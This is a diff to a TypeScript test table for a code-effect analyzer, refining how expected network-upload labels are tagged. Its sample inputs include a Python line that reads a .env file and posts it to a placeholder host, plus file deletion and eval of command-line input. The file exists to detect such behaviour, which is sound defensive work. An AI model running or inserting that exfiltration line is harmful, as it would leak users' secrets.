@@ -22,7 +22,11 @@ const CASES: Readonly<Record<string, Readonly<Record<string, string[]>>>> = {
     "from pathlib import Path\nPath('a').unlink()": ['fs.delete ./a', OK],
     "open('a', 'w').write('x')": ['fs.write ./a', OK],
     "open('.env').read()": ['fs.read ./.env class=secret', 'secret.read env-file', OK],
-    "import requests\nrequests.post('https://x.test', json={})": ['net.fetch x.test', 'net.upload x.test', OK],
+    "import requests\nrequests.post('https://x.test', json={})": [
+      'net.fetch x.test',
+      'net.upload x.test source=literal',
+      OK,
+    ],
     "import requests\nrequests.post('https://x.test', data=open('.env').read())": [
       'net.fetch x.test',
       'net.upload x.test source=secret',
@@ -50,7 +54,7 @@ const CASES: Readonly<Record<string, Readonly<Record<string, string[]>>>> = {
       OK,
     ],
     "fetch('https://x.test')": ['net.fetch x.test', OK],
-    "fetch('https://x.test', { method: 'POST', body })": ['net.fetch x.test', 'net.upload x.test', OK],
+    "fetch('https://x.test', { method: 'POST', body })": ['net.fetch x.test', 'net.upload x.test source=literal', OK],
     'import(name)': [UNSURE],
     'new Function("a", "return a")()': ['code.exec origin=inline ‹Function›'],
     'eval(process.argv[1])': ['code.opaque javascript reason=dynamic-eval', UNSURE],
